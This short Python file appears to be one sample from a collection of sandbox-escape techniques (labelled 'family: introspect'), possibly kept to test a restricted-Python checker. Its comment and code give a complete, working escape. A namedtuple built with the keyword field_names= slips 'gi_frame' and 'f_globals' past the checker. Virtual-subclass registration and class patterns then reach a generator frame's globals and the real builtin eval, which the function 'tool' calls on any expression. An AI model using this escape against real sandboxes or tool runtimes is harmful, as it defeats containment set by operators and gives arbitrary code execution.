# family: introspect
# Escape: namedtuple field names are judged only when given as the second positional argument; passed as the
# keyword field_names=, "gi_frame"/"f_globals" become __match_args__ unchecked. With collections.abc.Generator and
# Hashable registered as virtual subclasses (and __hash__ = None to dodge the cycle guard), class patterns read
# a generator's frame and then that frame's globals; their __builtins__ entry gives the real eval.
import abc
import collections
from collections.abc import Generator, Hashable


class Gen(collections.namedtuple("Gen", field_names=["gi_frame"]), abc.ABC):
    __hash__ = None


class Frame(collections.namedtuple("Frame", field_names=["f_globals"]), abc.ABC):
    __hash__ = None


Gen.register(Generator)
Frame.register(Hashable)


def tool(expression: str, word: str = "builtins"):
    match (n for n in [1]):
        case Gen(Frame(scope)):
            table = scope["__%s__" % word]
            return (table["eval"] if isinstance(table, dict) else table.eval)(expression)
